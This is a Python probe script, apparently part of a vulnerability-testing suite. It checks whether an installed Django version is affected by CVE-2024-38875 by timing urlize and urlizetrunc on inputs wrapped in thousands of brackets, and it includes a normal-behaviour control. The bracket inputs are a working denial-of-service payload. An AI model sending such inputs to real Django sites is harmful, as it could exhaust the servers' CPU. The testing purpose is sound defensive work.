# /// vertice-probe
# id = "PYSEC-2024-56"
# aliases = ["CVE-2024-38875"]
# package = "django"
# summary = """\
#   urlize takes brackets off a word one at a time and counts the rest each time, so a word with very many brackets \
#   takes quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-130", "CWE-400"]
# kind = "dos"
# symbols = [
#   "django.utils.html.urlize",
#   "django.template.defaultfilters.urlize",
#   "django.template.defaultfilters.urlizetrunc",
# ]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "4.2" },
#   { fixed = "4.2.14" },
#   { introduced = "5.0" },
#   { fixed = "5.0.7" },
# ] }]
#
# [cases]
# attack = "urlize of a word in very many brackets takes quadratic time"
# [cases.variants]
# template = "the urlizetrunc filter, for square brackets around a host name"
# [cases.controls]
# links = "addresses in brackets become links without the brackets"
#
# [test]
# vulnerable = "4.2.13"
# fixed = "4.2.14"
# ///
"""CVE-2024-38875: quadratic time in urlize."""

import json
import sys
import time


def prepare(**more):
    import django
    from django.conf import settings

    settings.configure(SECRET_KEY="probe", USE_I18N=False, **more)
    django.setup()


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    prepare()
    from django.utils.html import urlize

    def work(size):
        if not urlize("(" * size + ":" + ")" * size + " http://a.org").endswith("http://a.org</a>"):
            raise RuntimeError("the address after the brackets is no link")
        return "the address after it became a link"

    return judge(work, 3000, 24000, 20, "brackets")


def template():
    prepare(TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}])
    from django.template import Context, Template

    page = Template("{{ t|urlizetrunc:20 }}")

    def work(size):
        text = "[" * size + "b.example" + "]" * size + " http://a.org"
        if "http://a.org</a>" not in page.render(Context({"t": text})):
            raise RuntimeError("the address after the brackets is no link")
        return "the address after it became a link"

    return judge(work, 3000, 24000, 20, "brackets")


def links():
    prepare()
    from django.utils.html import urlize

    got = urlize("see (www.example.org/a_(b)) or [http://a.org/?q=1] and mail a@b.org!")
    wanted = ["/a_(b)</a>) or", "http://a.org/?q=1</a>] and", 'href="mailto:a@b.org"']
    return ("works" if all(part in got for part in wanted) else "broken"), got


CASES = {"attack": attack, "template": template, "links": links}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
